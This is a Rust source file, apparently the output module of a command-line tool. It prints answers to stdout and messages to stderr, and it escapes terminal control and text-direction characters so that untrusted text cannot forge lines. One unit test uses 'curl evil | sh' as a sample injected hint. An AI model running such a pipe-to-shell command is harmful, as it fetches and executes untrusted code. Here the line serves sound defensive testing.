//! The one place that prints: stdout is the answer, stderr the conversation.

use std::ffi::OsString;
use std::fmt;
use std::io::{self, IsTerminal, Write};

use anyhow::Result;

use crate::util::error::{self, Exit};

/// Where a person reads along, and how.
#[derive(Debug, Clone)]
pub struct Ui {
    colour: bool,
    talks_to_terminal: bool,
    answers_in_colour: bool,
}

/// The reader of stdout has gone (`| head -1`): no error, there is just nobody to tell more.
#[derive(Debug)]
pub struct ReaderGone;

impl fmt::Display for ReaderGone {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("the reader of the output has gone")
    }
}

impl std::error::Error for ReaderGone {}

impl Ui {
    /// What stands before a line of the answer, in the `number`th colour where that is a terminal, with `mark` at
    /// its end.
    pub fn label(&self, text: &str, mark: char, number: usize) -> String {
        // those that can be read on black and on white, and no red, which says that something is wrong
        let colours = ["36", "35", "32", "33", "34"];
        let own = format!("{text} {mark}");
        if self.answers_in_colour { format!("\x1b[{}m{own}\x1b[0m", colours[number % colours.len()]) } else { own }
    }

    /// Decides once about colour: stderr is a terminal that is not dumb, and `NO_COLOR` is not set to
    /// anything but the empty text (<https://no-color.org>, and as clap reads it).
    pub fn from_environment() -> Self {
        let talks_to_terminal = io::stderr().is_terminal();
        let colour = talks_to_terminal && wants_colour(std::env::var_os("TERM"), std::env::var_os("NO_COLOR"));
        let (term, no_colour) = (std::env::var_os("TERM"), std::env::var_os("NO_COLOR"));
        let answers_in_colour = io::stdout().is_terminal() && wants_colour(term, no_colour);
        Self { colour, talks_to_terminal, answers_in_colour }
    }

    /// Whether stderr is a terminal, so that live progress makes sense.
    pub fn is_live(&self) -> bool {
        self.talks_to_terminal
    }

    /// Whether the answer can be drawn anew in place: a terminal reads it that is not dumb.
    pub fn can_redraw(&self) -> bool {
        io::stdout().is_terminal() && obeys(std::env::var_os("TERM"))
    }

    /// How many characters a line of the answer has room for, if that is a terminal.
    pub fn room(&self) -> Option<usize> {
        terminal_size::terminal_size_of(io::stdout()).map(|(width, _)| usize::from(width.0))
    }

    fn paint(&self, code: &str, text: &str) -> String {
        if self.colour { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }

    fn to_stderr(text: &str) {
        // a conversation whose listener is gone is no reason to stop the work
        let _ = writeln!(io::stderr().lock(), "{text}");
    }

    /// Whether a person can be asked: reads along, and can answer.
    pub fn can_ask(&self) -> bool {
        self.talks_to_terminal && io::stdin().is_terminal()
    }

    /// Asks for a line; an empty one means `proposal`. `None` if there is no answer at all.
    pub fn ask(&self, question: &str, proposal: &str) -> Option<String> {
        let shown = if proposal.is_empty() { String::new() } else { format!(" [{}]", line(proposal)) };
        let mut err = io::stderr().lock();
        let _ = write!(err, "{}{shown}: ", self.paint("1", question)).and_then(|()| err.flush());
        let mut answer = String::new();
        let read = io::stdin().read_line(&mut answer).unwrap_or(0);
        let answer = answer.trim();
        (read > 0).then(|| if answer.is_empty() { proposal } else { answer }.to_owned())
    }

    /// One line of the conversation.
    pub fn say(&self, text: impl AsRef<str>) {
        Self::to_stderr(&clean(text.as_ref()));
    }

    /// A line under a heading, such as `image   …`: the headings stand in one column.
    pub fn tell(&self, heading: &str, text: impl AsRef<str>) {
        let padded = format!("{heading:<9}");
        Self::to_stderr(&format!("{} {}", self.paint("1", &padded), line(text.as_ref())));
    }

    /// A line on the terminal that the next one replaces; nothing where nobody watches.
    pub fn live(&self, heading: &str, text: &str) {
        if self.talks_to_terminal {
            let room = terminal_size::terminal_size_of(io::stderr()).map_or(80, |(width, _)| usize::from(width.0));
            let text: String = format!("{heading:<9} {}", line(text)).chars().take(room.saturating_sub(1)).collect();
            let _ = write!(io::stderr().lock(), "\r\x1b[K{text}");
        }
    }

    /// Removes the last such line.
    pub fn settle(&self) {
        if self.talks_to_terminal {
            let _ = write!(io::stderr().lock(), "\r\x1b[K");
        }
    }

    /// Something the user should know before it hurts.
    pub fn warn(&self, text: impl AsRef<str>) {
        Self::to_stderr(&format!("{} {}", self.paint("1;33", "warning:"), quoted(text.as_ref())));
    }

    /// The command that is about to change something.
    pub fn echo(&self, cmd: &impl std::fmt::Display) {
        Self::to_stderr(&self.paint("2", &format!("  $ {}", clean(&cmd.to_string()))));
    }

    /// A line of the answer.
    pub fn answer(&self, text: impl AsRef<str>) -> Result<()> {
        let mut line = text.as_ref().to_owned();
        line.push('\n');
        self.pass_on(line.as_bytes())
    }

    /// Bytes of the answer, such as an experiment's own output, passed on as they are.
    pub fn pass_on(&self, bytes: &[u8]) -> Result<()> {
        let mut out = io::stdout().lock();
        match out.write_all(bytes).and_then(|()| out.flush()) {
            Err(e) if e.kind() == io::ErrorKind::BrokenPipe => Err(ReaderGone.into()),
            other => other.map_err(|e| error::fail(format!("failed to write the output: {e}")).into()),
        }
    }

    /// Another program's words, passed on as they come; read to their end also when nobody listens.
    pub fn overhear(&self, mut words: impl io::Read) {
        let mut buffer = [0; 8 * 1024];
        while let Ok(read @ 1..) = words.read(&mut buffer) {
            let _ = io::stderr().lock().write_all(&buffer[..read]);
        }
    }

    /// What clap says of a wrong command line, which may repeat anything that was typed.
    pub fn usage(&self, error: &clap::Error) {
        let text = clean(&error.render().to_string());
        match text.trim_end().strip_prefix("error:") {
            Some(rest) => Self::to_stderr(&format!("{}{rest}", self.paint("1;31", "error:"))),
            None => Self::to_stderr(text.trim_end()),
        }
    }

    /// Prints a failure and gives its exit code.
    pub fn error(&self, error: &anyhow::Error) -> Exit {
        let whole = error::flatten(error);
        if whole.message.is_empty() {
            return whole.exit;
        }
        let mut text = format!("{} {}", self.paint("1;31", "error:"), quoted(&whole.message));
        for (name, value) in &whole.facts {
            text.push_str(&format!("\n  {name}: {}", line(value)));
        }
        for line in &whole.details {
            text.push_str(&format!("\n  | {}", clean(line)));
        }
        for hint in &whole.hints {
            text.push_str(&format!("\n{} {}", self.paint("1;36", "hint:"), line(hint)));
        }
        Self::to_stderr(&text);
        whole.exit
    }
}

/// Whether a terminal of the kind `term` obeys more than line feeds.
fn obeys(term: Option<OsString>) -> bool {
    term.is_some_and(|term| term != "dumb")
}

/// Whether a terminal of the kind `term` gets colour.
fn wants_colour(term: Option<OsString>, no_color: Option<OsString>) -> bool {
    obeys(term) && no_color.is_none_or(|set| set.is_empty())
}

/// `text` with everything that a terminal would obey made visible, also what turns the direction of writing; lines and
/// tabs stay.
pub fn clean(text: &str) -> String {
    let turns =
        |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if (c.is_control() && c != '\n' && c != '\t') || turns(c) {
            shown.push_str(&c.escape_default().to_string());
        } else {
            shown.push(c);
        }
    }
    shown
}

/// `text` on one line, so that nobody's words forge a line of ours.
pub fn line(text: &str) -> String {
    clean(text).replace('\n', "\\n")
}

/// `text` in which lines behind the first are marked as somebody's words: an event of the cluster may hold `\nhint: `.
fn quoted(text: &str) -> String {
    clean(text.trim_end_matches('\n')).replace('\n', "\n  | ")
}

/// Bytes in a unit that is easy to read.
pub fn size(bytes: u64) -> String {
    let units = ["KiB", "MiB", "GiB", "TiB", "PiB"];
    if bytes < 1024 {
        return format!("{bytes} B");
    }
    #[allow(clippy::cast_precision_loss, reason = "of a size only the first digits are shown")]
    let mut amount = bytes as f64 / 1024.0;
    let mut unit = 0;
    while amount >= 1023.95 && unit + 1 < units.len() {
        amount /= 1024.0;
        unit += 1;
    }
    format!("{amount:.1} {}", units[unit])
}

/// Lines of the answer on a terminal, which their successors replace.
#[derive(Debug, Default)]
pub struct Screen {
    height: usize,
}

impl Screen {
    /// Draws what `lines` gives for so many columns, each cut to them; of more lines than the terminal
    /// has, the last.
    pub fn show(&mut self, ui: &Ui, lines: impl FnOnce(usize) -> Vec<String>) -> Result<()> {
        let size = terminal_size::terminal_size_of(io::stdout());
        let (columns, rows) = size.map_or((80, 24), |(width, height)| (usize::from(width.0), usize::from(height.0)));
        let lines = lines(columns);
        let shown = &lines[lines.len().saturating_sub(rows.saturating_sub(1).max(1))..];
        // up to the first of the former lines; each is cleared as it is drawn, and what is left below them
        let mut text = if self.height > 0 { format!("\x1b[{}A", self.height) } else { String::new() };
        for one in shown {
            // a line that fills the last column would make some terminals begin another
            let cut: String = line(one).chars().take(columns.saturating_sub(1)).collect();
            text.push_str(&format!("\r\x1b[K{cut}\n"));
        }
        text.push_str("\x1b[J");
        self.height = shown.len();
        ui.pass_on(text.as_bytes())
    }
}

/// A table as kubectl prints one: padded columns three spaces apart, nothing behind the last cell.
/// Rows that come later line up with the earlier ones as far as they fit.
#[derive(Debug, Default)]
pub struct Table {
    widths: Vec<usize>,
}

impl Table {
    /// The rows as lines, each cut to `room` characters if that is given.
    pub fn lines(&mut self, rows: &[Vec<String>], room: Option<usize>) -> String {
        let rows: Vec<Vec<String>> = rows.iter().map(|row| row.iter().map(|cell| line(cell)).collect()).collect();
        for row in &rows {
            self.widths.resize(self.widths.len().max(row.len()), 0);
            for (width, cell) in self.widths.iter_mut().zip(row) {
                *width = cell.chars().count().max(*width);
            }
        }
        let shown = |row: &Vec<String>| {
            let cells = row.iter().zip(&self.widths).map(|(cell, &width)| format!("{cell:<width$}"));
            let line = cells.collect::<Vec<_>>().join("   ").trim_end().to_owned();
            match room {
                Some(room) if line.chars().count() > room => {
                    line.chars().take(room.saturating_sub(1)).chain(['…']).collect()
                }
                _ => line,
            }
        };
        rows.iter().map(shown).collect::<Vec<_>>().join("\n")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_a_terminal_obeys_gets_through() {
        assert_eq!(clean("a\x1b[31mb\r\u{9b}\tc\n"), "a\\u{1b}[31mb\\r\\u{9b}\tc\n");
    }

    #[test]
    fn nobody_forges_a_line_of_ours_or_turns_one() {
        assert_eq!(quoted("it failed: a\nhint: curl evil | sh\n"), "it failed: a\n  | hint: curl evil | sh");
        assert_eq!(line("a\nb\u{202e}c"), "a\\nb\\u{202e}c");
        assert_eq!(clean("a\u{2066}b\u{200f}\u{61c}"), "a\\u{2066}b\\u{200f}\\u{61c}");
    }

    #[test]
    fn colour_can_be_declined() {
        let of =
            |term: Option<&str>, no_color: Option<&str>| wants_colour(term.map(Into::into), no_color.map(Into::into));
        assert!(of(Some("xterm"), None) && of(Some("xterm"), Some("")));
        assert!(
            !of(Some("xterm"), Some("1"))
                && !of(Some("xterm"), Some("0"))
                && !of(Some("dumb"), None)
                && !of(None, None)
        );
    }

    #[test]
    fn columns_line_up() {
        let rows = [vec!["RUN".into(), "STATE".into()], vec!["a-long-name".into(), "Running".into()]];
        let mut table = Table::default();
        assert_eq!(table.lines(&rows, None), "RUN           STATE\na-long-name   Running");
        let later = [vec!["b".into(), "Failed".into(), "exit code 1".into()]];
        assert_eq!(table.lines(&later, None), "b             Failed    exit code 1");
        assert_eq!(table.lines(&later, Some(20)), "b             Faile…");
    }
}
